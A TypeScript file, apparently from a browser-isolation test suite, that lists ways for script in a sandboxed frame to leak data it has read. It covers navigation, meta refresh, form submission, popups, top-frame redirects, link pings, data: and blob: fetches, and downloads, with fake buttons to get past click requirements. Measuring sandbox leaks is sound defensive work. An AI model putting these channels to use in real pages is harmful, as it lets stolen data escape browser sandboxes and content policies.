import {js, type Attack} from "./attack.ts";
import type {Tab} from "./tab.ts";

const leave = {page: {"frame-src": "*"}};
const forms = {frame: {"form-action": "*"}, page: {"frame-src": "*"}, sandbox: "allow-forms"};
const popups = {sandbox: "allow-popups"};
const top = {sandbox: "allow-top-navigation-by-user-activation allow-top-navigation"};
const saving = {sandbox: "allow-downloads"};

const wait = `await new Promise((resolve) => setTimeout(resolve, 400));`;
const byClick = (name: string) => ({act: (tab: Tab) => tab.clickInFrame(`#${name}`)});
const bait = (name: string, handler: string) =>
  `const b = Object.assign(document.createElement("button"), {id: "${name}", textContent: "x"}); document.querySelector("main").prepend(b);
b.onclick = () => { ${handler} }; await new Promise((resolve) => b.addEventListener("click", () => setTimeout(resolve, 400)));`;

/** Every way to go somewhere with an address that carries what was read. */
export const navigation: readonly Attack[] = [
  js("location", leave, `location.href = u + ".html";`, {alone: "always"}),
  js("location-replace", leave, `location.replace(u + ".html");`, {alone: "always"}),
  js(
    "meta-refresh",
    leave,
    `document.head.append(Object.assign(document.createElement("meta"), {httpEquiv: "refresh", content: "0;url=" + u + ".html"})); ${wait}`,
    {alone: "always"}
  ),
  js(
    "anchor-self",
    leave,
    `const a = Object.assign(document.createElement("a"), {href: u + ".html"}); document.body.append(a); a.addEventListener("click", (e) => e.stopImmediatePropagation()); a.click(); ${wait}`,
    {alone: "always"}
  ),
  js("open-self", leave, `open(u + ".html", "_self"); ${wait}`, {alone: "always"}),
  js("navigation-api", leave, `navigation.navigate(u + ".html"); ${wait}`, {alone: "always"}),
  js(
    "location-data",
    {page: {"frame-src": "* data:"}, frame: {"connect-src": "*", "script-src": "'unsafe-inline' 'unsafe-eval' data:"}},
    `location.href = "data:text/html,<script>fetch('" + u + "',{mode:'no-cors'})</script>"; ${wait}`,
    {
      alone: "always"
    }
  ),
  js(
    "location-blob",
    {page: {"frame-src": "* blob:"}, frame: {"connect-src": "*", "script-src": "'unsafe-inline' 'unsafe-eval' blob:"}},
    `location.href = URL.createObjectURL(new Blob(["<script>fetch('" + u + "',{mode:'no-cors'})</script>"], {type: "text/html"})); ${wait}`,
    {
      alone: "always"
    }
  ),
  js(
    "form-get",
    forms,
    `const f = Object.assign(document.createElement("form"), {action: u + ".html"}); document.body.append(f); f.submit(); ${wait}`,
    {alone: "weak"}
  ),
  js(
    "form-post",
    forms,
    `const f = Object.assign(document.createElement("form"), {action: u + ".html", method: "post"}); f.append(Object.assign(document.createElement("input"), {name: "s", value: "secret"})); document.body.append(f); f.requestSubmit(); ${wait}`,
    {alone: "weak"}
  ),
  js(
    "form-blank",
    {frame: {"form-action": "*"}, sandbox: "allow-forms allow-popups"},
    `const f = Object.assign(document.createElement("form"), {action: u + ".html", target: "_blank"}); document.body.append(f); ${bait("form-blank", "f.submit();")}`,
    {alone: "weak", ...byClick("form-blank")}
  ),
  js("top-location", top, `top.location.href = u + ".html"; ${wait}`, {alone: "weak"}),
  js("top-location-clicked", top, bait("top-location-clicked", `top.location.href = u + ".html";`), {
    alone: "weak",
    ...byClick("top-location-clicked")
  }),
  js("parent-location", top, `parent.location.replace(u + ".html"); ${wait}`, {alone: "weak"}),
  js("open-top", top, `open(u + ".html", "_top"); ${wait}`, {alone: "weak"}),
  js("popup", popups, bait("popup", `open(u + ".html");`), {alone: "weak", ...byClick("popup")}),
  js("popup-noopener", popups, bait("popup-noopener", `open(u + ".html", "_blank", "noopener");`), {
    alone: "weak",
    ...byClick("popup-noopener")
  }),
  js(
    "popup-anchor",
    popups,
    `${bait("popup-anchor", `const a = Object.assign(document.createElement("a"), {href: u + ".html", target: "_blank"}); a.addEventListener("click", (e) => e.stopImmediatePropagation()); document.body.append(a); a.click();`)}`,
    {alone: "weak", ...byClick("popup-anchor")}
  ),
  js(
    "ping",
    {frame: {"connect-src": "*"}, page: {"frame-src": "* about:"}},
    `const a = Object.assign(document.createElement("a"), {href: "#ping", ping: u}); a.addEventListener("click", (e) => e.stopImmediatePropagation()); document.body.append(a); a.click(); ${wait}`,
    {
      alone: "weak"
    }
  ),
  js(
    "download-blob",
    saving,
    `const a = Object.assign(document.createElement("a"), {href: URL.createObjectURL(new Blob(["x"])), download: "download-blob.txt"}); a.addEventListener("click", (e) => e.stopImmediatePropagation()); document.body.append(a); a.click(); ${wait}`,
    {
      alone: "weak",
      // Firefox counts it as the frame's going to the blob
      also: {firefox: {page: {"frame-src": "* blob:"}}},
      succeeded: async (tab) => tab.downloads.includes("download-blob.txt")
    }
  ),
  js(
    "download-address",
    {...saving, page: {"frame-src": "*"}},
    `const a = Object.assign(document.createElement("a"), {href: u, download: "x"}); a.addEventListener("click", (e) => e.stopImmediatePropagation()); document.body.append(a); a.click(); ${wait}`,
    {
      alone: "always"
    }
  )
];
